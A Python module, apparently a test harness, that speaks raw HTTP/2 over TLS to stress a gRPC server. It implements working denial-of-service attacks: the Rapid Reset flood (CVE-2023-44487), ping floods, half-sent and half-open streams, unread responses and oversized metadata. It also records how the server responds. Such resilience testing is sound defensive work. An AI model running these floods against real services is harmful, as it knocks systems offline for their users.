"""A client that speaks raw HTTP/2 over TLS and abuses it: floods, half-sent requests, streams that are held open.

Bounded in count and time, and on loopback only.
"""

import asyncio
import itertools
import ssl
import struct
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass, field

import hpack

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_CANCEL = struct.pack(">I", 8)
_CHUNK = 16_000
_INITIAL_WINDOW_SIZE = b"\0\4"
_LARGEST_WINDOW = 2**31 - 1
_SECONDS = 5.0
"""After which a write that the server does not take ends a connection."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def message(body: bytes, announced: int | None = None) -> bytes:
    """A gRPC message that may announce more than follows."""
    return b"\0" + (len(body) if announced is None else announced).to_bytes(4, "big") + body


@dataclass
class Seen:
    """What the server made of an attack."""

    connections: int = 0
    sent: int = 0
    statuses: Counter[str] = field(default_factory=Counter)
    resets: int = 0
    ends: Counter[str] = field(default_factory=Counter)
    """Reasons in GOAWAY frames, and connections that ended without one."""


class RawConnection:
    """One connection whose frames the caller writes."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, seen: Seen) -> None:
        self._reader, self._writer, self._seen = reader, writer, seen
        self._encoder, self._decoder = hpack.Encoder(), hpack.Decoder()
        self._decoder.max_header_list_size = 1 << 20
        self._numbers = itertools.count(1, 2)
        self.window = self.initial = 65_535
        self.windows: dict[int, int] = {}
        self.open = True
        self._ends: dict[int, asyncio.Future[None]] = {}
        self._reading = asyncio.ensure_future(self._read())
        self._writer.write(_PREFACE + frame(SETTINGS, 0, 0))

    async def finish(self) -> None:
        """Let what the server has said arrive."""
        with suppress(TimeoutError):
            async with asyncio.timeout(0.2):
                await asyncio.shield(self._reading)
        await self.close()

    @classmethod
    async def connect(
        cls, address: str, context: ssl.SSLContext | None, seen: Seen, *, local: str | None = None
    ) -> "RawConnection":
        host, _, port = address.rpartition(":")
        local_address = None if local is None else (local, 0)
        reader, writer = await asyncio.open_connection(host, int(port), ssl=context, local_addr=local_address)
        seen.connections += 1
        return cls(reader, writer, seen)

    def headers(self, path: str, *extra: tuple[str, str], end: bool = False) -> tuple[int, bytes]:
        """The frames that open a call: its stream and their bytes."""
        fields = [(":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "ca")]
        fields += [("content-type", "application/grpc"), ("te", "trailers"), *extra]
        block = self._encoder.encode(fields, huffman=False)
        number = next(self._numbers)
        self.windows[number] = self.initial
        parts = [block[at : at + _CHUNK] for at in range(0, len(block), _CHUNK)]
        flags = END_STREAM if end else 0
        frames = [frame(HEADERS, flags | (END_HEADERS if len(parts) == 1 else 0), number, parts[0])]
        frames += [frame(CONTINUATION, END_HEADERS if part is parts[-1] else 0, number, part) for part in parts[1:]]
        return number, b"".join(frames)

    async def send(self, data: bytes) -> None:
        """Send bytes. Raises `ConnectionError` when the server does not take them any more."""
        if not self.open:
            raise ConnectionResetError
        self._writer.write(data)
        try:
            async with asyncio.timeout(_SECONDS):
                await self._writer.drain()
                await asyncio.sleep(0)  # `drain` alone lets nothing be read
        except TimeoutError:
            raise ConnectionResetError from None
        self._seen.sent += 1

    async def send_within_windows(self, number: int, data: bytes) -> int:
        """Send as much of a body as the windows allow; return how much."""
        count = min(self.window, self.windows.get(number, 0), _CHUNK, len(data))
        if count <= 0:
            return 0
        self.window -= count
        self.windows[number] -= count
        await self.send(frame(DATA, 0, number, data[:count]))
        return count

    def take_all_answers(self) -> None:
        """Let the server send answers without waiting for this side."""
        most = _LARGEST_WINDOW.to_bytes(4, "big")
        self._writer.write(frame(SETTINGS, 0, 0, _INITIAL_WINDOW_SIZE + most))
        self._writer.write(frame(WINDOW_UPDATE, 0, 0, (_LARGEST_WINDOW - 65_535).to_bytes(4, "big")))

    def stop_reading(self) -> None:
        """Leave what the server sends in the sockets."""
        self._writer.transport.pause_reading()

    async def end_of(self, number: int) -> None:
        """Return when a call has been answered or reset, or the connection has ended."""
        if self.open:
            ended = self._ends[number] = asyncio.get_running_loop().create_future()
            await ended

    async def close(self) -> None:
        self.open = False
        self._writer.transport.abort()
        self._reading.cancel()
        await asyncio.gather(self._reading, return_exceptions=True)

    async def _read(self) -> None:
        reason = "no GOAWAY"
        with suppress(OSError, asyncio.IncompleteReadError):
            while True:
                head = await self._reader.readexactly(9)
                payload = await self._reader.readexactly(int.from_bytes(head[:3], "big"))
                kind, flags, stream = head[3], head[4], int.from_bytes(head[5:9], "big")
                if kind == GOAWAY:
                    reason = payload[8:].decode() or f"code {payload[7]}"
                else:
                    self._take_in(kind, flags, stream, payload)
        self.open = False
        self._seen.ends[reason] += 1
        for number in list(self._ends):
            self._end(number)

    def _end(self, number: int) -> None:
        ended = self._ends.pop(number, None)
        if ended is not None and not ended.done():
            ended.set_result(None)

    def _take_in(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == HEADERS:
            found = dict(self._decoder.decode(payload))
            if "grpc-status" in found:
                self._seen.statuses[found["grpc-status"]] += 1
                self._end(stream)
        elif kind == RST_STREAM:
            self.windows.pop(stream, None)
            self._end(stream)
            self._seen.resets += 1
        elif kind == WINDOW_UPDATE:
            more = int.from_bytes(payload, "big")
            if stream:
                self.windows[stream] = self.windows.get(stream, 0) + more
            else:
                self.window += more
        elif kind == SETTINGS and not flags & 1:
            self._writer.write(frame(SETTINGS, 1, 0))
        elif kind == PING and not flags & 1:
            self._writer.write(frame(PING, 1, 0, payload))


@dataclass
class Attacker:
    """A client with a certificate, or without one, for some seconds."""

    address: str
    context: ssl.SSLContext
    seconds: float = 2.0
    seen: Seen = field(default_factory=Seen)

    async def flood(self, connections: int, step: Callable[[RawConnection], bytes], batch: int = 50) -> None:
        """Send what `step` makes as fast as the server takes it; connect again when it ends the connection."""
        until = time.monotonic() + self.seconds

        async def one() -> None:
            while time.monotonic() < until:
                with suppress(OSError, ssl.SSLError):
                    connection = await RawConnection.connect(self.address, self.context, self.seen)
                    try:
                        while time.monotonic() < until:
                            await connection.send(b"".join(step(connection) for _ in range(batch)))
                    finally:
                        await connection.finish()
                await asyncio.sleep(0)

        await asyncio.gather(*(one() for _ in range(connections)))

    async def keep(self, connections: int, fill: Callable[[RawConnection], Awaitable[None]]) -> None:
        """Do the same on each connection, and connect again when the server ends it."""
        until = time.monotonic() + self.seconds

        async def one() -> None:
            while time.monotonic() < until:
                with suppress(OSError, ssl.SSLError, TimeoutError):
                    connection = await RawConnection.connect(self.address, self.context, self.seen)
                    try:
                        async with asyncio.timeout(max(0.1, until - time.monotonic())):
                            await fill(connection)
                    finally:
                        await connection.finish()
                await asyncio.sleep(0)

        await asyncio.gather(*(one() for _ in range(connections)))

    async def hold(self, connections: int, fill: Callable[[RawConnection], Awaitable[None]]) -> None:
        """Open connections, fill each, and hold them until the time is over."""
        until = time.monotonic() + self.seconds
        found: list[RawConnection] = []

        async def one() -> None:
            with suppress(OSError, ssl.SSLError):
                connection = await RawConnection.connect(self.address, self.context, self.seen)
                found.append(connection)
                async with asyncio.timeout_at(asyncio.get_running_loop().time() + max(0.1, until - time.monotonic())):
                    await fill(connection)

        for at in range(0, connections, 50):
            await asyncio.gather(*(one() for _ in range(min(50, connections - at))), return_exceptions=True)
        await asyncio.sleep(max(0.0, until - time.monotonic()))
        for connection in found:
            await connection.close()


def reset_at_once(path: str) -> Callable[[RawConnection], bytes]:
    """Open a call and reset it (CVE-2023-44487)."""

    def step(connection: RawConnection) -> bytes:
        number, opened = connection.headers(path, ("grpc-timeout", "5S"))
        return opened + frame(RST_STREAM, 0, number, _CANCEL)

    return step


def complete_and_reset(path: str) -> Callable[[RawConnection], bytes]:
    """Make a whole call and reset it."""

    def step(connection: RawConnection) -> bytes:
        number, opened = connection.headers(path, ("grpc-timeout", "5S"))
        return opened + frame(DATA, END_STREAM, number, message(b"")) + frame(RST_STREAM, 0, number, _CANCEL)

    return step


def ping(_: RawConnection) -> bytes:
    return frame(PING, 0, 0, b"whatever")


def half_sent(
    path: str, streams: int, size: int, *extra: tuple[str, str]
) -> Callable[[RawConnection], Awaitable[None]]:
    """Send all of a message but its last byte, on many streams."""

    async def fill(connection: RawConnection) -> None:
        left = {}
        for _ in range(streams):
            number, opened = connection.headers(path, *extra)
            await connection.send(opened)
            await connection.send_within_windows(number, message(b"", size))
            left[number] = size - 1
        while connection.open:
            moved = 0
            for number in list(left):
                count = await connection.send_within_windows(number, bytes(min(_CHUNK, left[number])))
                left[number] -= count
                moved += count
            await asyncio.sleep(0 if moved else 0.02)

    return fill


def half_open(path: str, streams: int, *extra: tuple[str, str]) -> Callable[[RawConnection], Awaitable[None]]:
    """Send the headers of many calls, and nothing of their requests."""

    async def fill(connection: RawConnection) -> None:
        for _ in range(streams):
            await connection.send(connection.headers(path, *extra)[1])

    return fill


def unread(path: str, calls: int, *extra: tuple[str, str]) -> Callable[[RawConnection], Awaitable[None]]:
    """Make whole calls and read none of the answers."""

    async def fill(connection: RawConnection) -> None:
        connection.take_all_answers()
        connection.stop_reading()
        for _ in range(calls):
            number, opened = connection.headers(path, *extra)
            await connection.send(opened + frame(DATA, END_STREAM, number, message(b"")))

    return fill


def open_streams(path: str, streams: int, request: bytes) -> Callable[[RawConnection], Awaitable[None]]:
    """Call a method that answers for long, many times."""

    async def fill(connection: RawConnection) -> None:
        for _ in range(streams):
            number, opened = connection.headers(path)
            await connection.send(opened + frame(DATA, END_STREAM, number, message(request)))

    return fill


def call_repeatedly(path: str, at_once: int, make: Callable[[], bytes]) -> Callable[[RawConnection], Awaitable[None]]:
    """Make whole calls, some at once, each with a request of its own."""

    async def fill(connection: RawConnection) -> None:
        connection.take_all_answers()
        await asyncio.gather(*(_call_for_ever(connection, path, make) for _ in range(at_once)))

    return fill


async def _call_for_ever(connection: RawConnection, path: str, make: Callable[[], bytes]) -> None:
    while connection.open:
        number, opened = connection.headers(path, ("grpc-timeout", "20S"))
        left = message(make())
        await connection.send(opened)
        while left and connection.open and number in connection.windows:
            count = await connection.send_within_windows(number, left[:_CHUNK])
            left = left[count:]
            await asyncio.sleep(0 if count else 0.005)
        if not left:
            await connection.send(frame(DATA, END_STREAM, number))
            await connection.end_of(number)


def large_metadata(path: str, *sizes: int) -> Callable[[RawConnection], Awaitable[None]]:
    """One call for each size of metadata: in one field, and in many."""

    async def fill(connection: RawConnection) -> None:
        for size in sizes:
            for fields in ([("x-a", "~" * size)], [(f"x-{n}", "~" * 64) for n in range(size // 100)]):
                number, opened = connection.headers(path, ("grpc-timeout", "5S"), *fields)
                await connection.send(opened + frame(DATA, END_STREAM, number, message(b"")))

    return fill


async def nothing(_: RawConnection) -> None:
    """Say nothing after the preface."""
